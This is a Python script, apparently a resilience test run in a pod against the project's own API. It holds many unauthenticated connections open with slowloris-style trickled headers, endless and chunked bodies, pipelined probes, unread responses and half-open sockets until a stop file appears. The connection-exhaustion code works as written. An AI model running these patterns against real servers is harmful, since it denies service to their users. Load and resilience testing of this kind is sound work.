"""Runs in a pod: clients without a token that hold what they can, until /tmp/stop is there.

Arguments: host, port, and how many connections stay half open.  Prints one line when all are at
work, and another with what they saw in the end.
"""

import asyncio
import collections
import json
import pathlib
import resource
import sys
import time

STOP = pathlib.Path("/tmp/stop")
AT_WORK = "at work"
GIVE_UP_SECONDS = 900
MOST_UNSENT = 64 * 1024
HEAD = b"POST /api/backup/export HTTP/1.1\r\nHost: api\r\n"
CHUNK = b"1000\r\n" + b"x" * 4096 + b"\r\n"
PROBE = b"GET /readyz HTTP/1.1\r\nHost: api\r\n\r\n"
# What is sent first, and then again and again, with how many seconds between.
KINDS: dict[str, tuple[bytes, bytes, float, int]] = {
    "slow_heads": (HEAD, b"x", 1.0, 50),
    "endless_bodies": (HEAD + b"Content-Length: 99999999999\r\n\r\n", b"x" * 4096, 0.05, 10),
    "endless_chunks": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n", CHUNK, 0.05, 10),
    "pipelines": (PROBE * 50, PROBE * 5, 0.5, 5),
    "unread_answers": (
        b"GET /assets/swagger-ui/swagger-ui-bundle.js HTTP/1.1\r\nHost: api\r\n\r\n" * 10,
        b"",
        1.0,
        20,
    ),
    "probes": (PROBE, PROBE, 0.1, 10),
}


class Connection(asyncio.Protocol):
    """Drops what comes, and knows when it is over."""

    def __init__(self) -> None:
        self.is_over = False

    def connection_lost(self, exc: Exception | None) -> None:
        del exc
        self.is_over = True


class Attack:
    """What the clients share."""

    def __init__(self, host: str, port: int) -> None:
        self.address = (host, port)
        self.opened: collections.Counter[str] = collections.Counter()

    async def client(self, kind: str, first: bytes, piece: bytes, pause: float) -> None:
        """Hold a connection, and open another when it is cut."""
        loop = asyncio.get_running_loop()
        while True:
            try:
                transport, connection = await loop.create_connection(Connection, *self.address)
            except OSError:
                await asyncio.sleep(0.2)
                continue
            self.opened[kind] += 1
            if kind == "unread_answers":
                transport.pause_reading()
            transport.write(first)
            while not connection.is_over:
                if transport.get_write_buffer_size() < MOST_UNSENT:
                    transport.write(piece)
                await asyncio.sleep(pause)


def is_stopped() -> bool:
    return STOP.exists()


async def attack(host: str, port: int, half_open: int) -> dict[str, int]:
    """Attack until told to stop; return how many connections each kind has opened."""
    it = Attack(host, port)
    clients = [asyncio.create_task(it.client("half_open", HEAD, b"", 1)) for _ in range(half_open)]
    for kind, (first, piece, pause, number) in KINDS.items():
        clients += [
            asyncio.create_task(it.client(kind, first, piece, pause)) for _ in range(number)
        ]
    deadline = time.monotonic() + GIVE_UP_SECONDS
    while it.opened["half_open"] < half_open and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    sys.stdout.write(f"{AT_WORK}\n")
    sys.stdout.flush()
    while not is_stopped() and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    for client in clients:
        client.cancel()
    return dict(it.opened)


def main() -> None:
    """Attack."""
    host, port, half_open = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = asyncio.run(attack(host, int(port), int(half_open)))
    sys.stdout.write(json.dumps(opened))


if __name__ == "__main__":
    main()
